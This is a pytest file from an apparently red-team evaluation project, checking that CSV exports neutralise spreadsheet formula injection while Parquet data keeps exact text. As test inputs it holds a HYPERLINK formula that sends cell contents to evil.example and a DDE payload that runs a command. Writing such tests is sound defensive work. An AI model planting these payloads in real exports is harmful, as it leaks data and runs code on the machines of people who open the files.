"""CSV files a person opens in a spreadsheet carry no formula (issue #39, item 9; OWASP, CSV Injection): a text cell
starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'``, while the Parquet data keeps
the exact text and the red team reads its own CSVs back exactly. The labels the page exports are checked in
``tests/test_labelling_browser.py``."""

from __future__ import annotations

import pandas as pd
import pytest
from report_support import conversation, merge

from convoeval.frames import RunFrames, from_parquet
from convoeval.frames.spreadsheet import FORMULA_STARTS, restore_cell, safe_cell, safe_frame
from convoeval.pipeline.execute import save_outputs
from convoeval.redteam.detector import Leak
from convoeval.redteam.metrics import read_cases, read_leaks, write_results
from convoeval.redteam.run import AttackResult, AttackTurn
from convoeval.report.index import CombinationRow, write_index

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", [ATTACK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''-x", "'plain"])
def test_a_formula_start_is_neutralised_and_restored_exactly(text):
    safe = safe_cell(text)
    assert not safe.startswith(FORMULA_STARTS) and restore_cell(safe) == text
    if not text.startswith("'"):
        assert safe == "'" + text if text.startswith(FORMULA_STARTS) else safe == text


def test_plain_text_and_numbers_are_left_alone():
    assert safe_cell("Olá, tudo bem?") == "Olá, tudo bem?" and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    frame = safe_frame(pd.DataFrame({"score": [-1.5, 2.0], "text": ["-1.5", "ok"]}))
    assert frame["score"].tolist() == [-1.5, 2.0] and frame["text"].tolist() == ["'-1.5", "ok"]


def test_a_runs_csv_files_carry_no_formula_while_the_parquet_keeps_the_text(tmp_path):
    rows = merge(conversation("r1", agent_text=ATTACK))
    rows["transcripts"][0]["text"] = "=cmd|' /C calc'!A0"  # the (attacker's) patient message
    save_outputs(RunFrames.from_rows(rows), tmp_path, {})
    data = tmp_path / "data"
    csv = pd.read_csv(data / "transcripts.csv", dtype=str, keep_default_na=False)
    assert csv["text"].tolist()[:2] == ["'=cmd|' /C calc'!A0", "'" + ATTACK]
    assert not any(str(v).startswith(FORMULA_STARTS) for v in csv.to_numpy().ravel())
    parquet = from_parquet(data / "transcripts.parquet")
    assert parquet["text"].tolist()[:2] == ["=cmd|' /C calc'!A0", ATTACK]  # the data itself is exact


def test_the_red_teams_csv_files_are_safe_and_read_back_exactly(tmp_path):
    result = AttackResult(case="injection/billing/en", attack="injection", strategy="injection", agent="billing",
                          locale="en", form="scripted", target_agent="clinic:billing", legitimate=False,
                          target="op-conceicao", status="leak",
                          leaks=[Leak(1, "cpf", "op-conceicao", "message", "-123.456.789-00", "injection")],
                          turns=[AttackTurn(1, ATTACK, "-123.456.789-00", [])], error="@boom")
    write_results([result], tmp_path)
    raw = (tmp_path / "leaks.csv").read_text(encoding="utf-8")
    assert raw.rstrip().endswith(",'-123.456.789-00") and "'@boom" in (tmp_path / "cases.csv").read_text(encoding="utf-8")
    assert read_leaks(tmp_path)["quote"].tolist() == ["-123.456.789-00"]
    assert read_cases(tmp_path)["error"].tolist() == ["@boom"]


def test_a_sweeps_csv_files_are_safe(tmp_path):
    failed = CombinationRow("billing-s1", "billing", 1, tmp_path / "missing", "failed", error="=1+1 in the agent")
    write_index(tmp_path, [failed])
    combos = pd.read_csv(tmp_path / "data" / "combinations.csv", dtype=str, keep_default_na=False)
    assert "'=1+1 in the agent" in combos.to_numpy().ravel().tolist()
